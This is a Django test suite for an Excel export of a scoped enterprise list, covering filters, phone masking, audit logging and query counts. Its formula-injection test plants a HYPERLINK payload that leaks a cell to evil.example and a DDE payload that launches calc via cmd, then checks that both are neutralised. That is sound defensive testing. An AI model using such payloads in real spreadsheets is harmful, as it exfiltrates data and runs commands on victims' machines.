"""Excel export of the filtered enterprise list: scoped, filtered, formula-neutralised, audited, constant queries."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.db import connection
from django.http import QueryDict
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from portal.choices import AuditAction, Industry
from portal.exports import enterprise_export_response
from portal.imports import enterprise_import_commit
from portal.models import AuditEvent, Enterprise, User
from tests.conftest import Cast, World
from tests.factories import EnterpriseFactory, ParentCompanyFactory
from tests.test_scoping import EXPECTED_ENTERPRISES


def read_export(response: Any) -> list[dict[str, Any]]:
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def export_as(user: User, query: str = "") -> list[dict[str, Any]]:
    client = Client()
    client.force_login(user)
    response = client.get(f"/enterprises/export.xlsx{'?' + query if query else ''}")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response["Content-Disposition"]
    return read_export(response)


@pytest.mark.parametrize("member", sorted(EXPECTED_ENTERPRISES))
def test_export_contains_only_the_enterprises_in_scope(world: World, cast: Cast, member: str) -> None:
    names = {row["企业名称"] for row in export_as(getattr(cast, member))}
    assert names == {getattr(world, name).name for name in EXPECTED_ENTERPRISES[member]}


def test_export_follows_the_list_filters(world: World, cast: Cast) -> None:
    rows = export_as(cast.county_staff, f"industry={Industry.QUARRY}")
    assert [row["企业名称"] for row in rows] == [world.enterprise_a2.name]
    rows = export_as(cast.county_staff, f"town={world.town_b.pk}")
    assert [row["企业名称"] for row in rows] == [world.enterprise_b.name]
    rows = export_as(cast.county_staff, "q=示范")
    assert [row["统一社会信用代码"] for row in rows] == ["91140525MA0K7XQ215"]
    # A town outside the user's scope is not a valid choice: it filters nothing in, never leaks.
    rows = export_as(cast.county_staff, f"town={world.other_town.pk}")
    assert world.enterprise_other.name not in {row["企业名称"] for row in rows}


def test_export_columns_and_values(world: World, cast: Cast) -> None:
    parent = ParentCompanyFactory(name="示范集团", region=world.county)
    EnterpriseFactory(
        name="字段齐全矿业",
        town=world.town_a,
        parent_company=parent,
        risk_grade="B",
        standardization_grade="2",
        license_number="（晋）FM安许证字〔2024〕001",
        contact_name="王五",
        contact_phone="13912345678",
    )
    row = next(r for r in export_as(cast.admin) if r["企业名称"] == "字段齐全矿业")
    assert row["所在县（区）"] == "泽州县"
    assert row["所在镇"] == "巴公镇"
    assert row["上级企业/主体公司"] == "示范集团"
    assert row["安全风险等级"] == "B级"
    assert row["安全生产标准化等级"] == "二级"
    assert row["联系电话"] == "13912345678"  # admins read contact phones in full
    masked = next(r for r in export_as(cast.county_staff) if r["企业名称"] == "字段齐全矿业")
    assert masked["联系电话"] == "139****5678"  # like the detail page, others read them masked


def test_formula_injection_is_neutralised(world: World, cast: Cast) -> None:
    EnterpriseFactory(
        name='=HYPERLINK("http://evil.example/?"&B2,"点我")',
        town=world.town_a,
        address="@SUM(1+1)*cmd|' /C calc'!A0",
        contact_name="+cmd",
        license_number="-2+3",
    )
    client = Client()
    client.force_login(cast.county_staff)
    response = client.get("/enterprises/export.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert '\'=HYPERLINK("http://evil.example/?"&B2,"点我")' in values
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert "'+cmd" in values
    assert "'-2+3" in values
    assert not any(isinstance(v, str) and v[:1] in "=+-@" and v not in {"-"} for v in values)


def test_export_is_audited(world: World, cast: Cast) -> None:
    before = AuditEvent.objects.filter(action=AuditAction.EXPORT).count()
    export_as(cast.town_a_staff, f"industry={Industry.OPEN_PIT}")
    event = AuditEvent.objects.filter(action=AuditAction.EXPORT).latest("id")
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT).count() == before + 1
    assert event.actor == cast.town_a_staff
    assert event.region_path == world.town_a.path
    assert "导出企业名录 1 家" in event.detail
    assert "industry=open_pit" in event.detail
    export_as(cast.clerk)
    event = AuditEvent.objects.filter(action=AuditAction.EXPORT).latest("id")
    assert (event.actor, event.region_path) == (cast.clerk, world.town_a.path)
    assert "导出企业名录 1 家；筛选条件：无" in event.detail


def test_anonymous_export_is_refused(world: World) -> None:
    response = Client().get("/enterprises/export.xlsx")
    assert response.status_code == 302


def _query_count(user: User, params: QueryDict) -> int:
    with CaptureQueriesContext(connection) as context:
        response = enterprise_export_response(user=user, params=params)
        b"".join(response.streaming_content)
    return len(context)


def test_query_count_does_not_depend_on_rows(world: World, cast: Cast, django_assert_num_queries: Any) -> None:
    parent = ParentCompanyFactory(region=world.county)
    params = QueryDict(f"town={world.town_a.pk}&ordering=name")
    few = _query_count(cast.county_staff, params)
    assert Enterprise.objects.visible_to(cast.county_staff).filter(town=world.town_a).count() == 2
    EnterpriseFactory(town=world.town_a, parent_company=parent)
    assert Enterprise.objects.filter(town=world.town_a).count() == 3
    three = _query_count(cast.county_staff, params)
    EnterpriseFactory.create_batch(27, town=world.town_a, parent_company=parent)
    with django_assert_num_queries(three):
        response = enterprise_export_response(user=cast.county_staff, params=params)
        b"".join(response.streaming_content)
    assert len(read_export(enterprise_export_response(user=cast.county_staff, params=params))) == 30
    assert few == three


def test_export_then_import_round_trips_unchanged(world: World, cast: Cast) -> None:
    EnterpriseFactory(name="=往返公式矿业", town=world.town_b, contact_phone="13700001111", address="某地")
    client = Client()
    client.force_login(cast.county_staff)
    response = client.get("/enterprises/export.xlsx")
    content = b"".join(response.streaming_content)
    result = enterprise_import_commit(source=content, user=cast.county_staff)
    assert result.committed, result.error_lines()
    assert result.summary() == "新增 0 条，更新 0 条，未变 4 条"
    assert Enterprise.objects.get(name="=往返公式矿业").contact_phone == "13700001111"
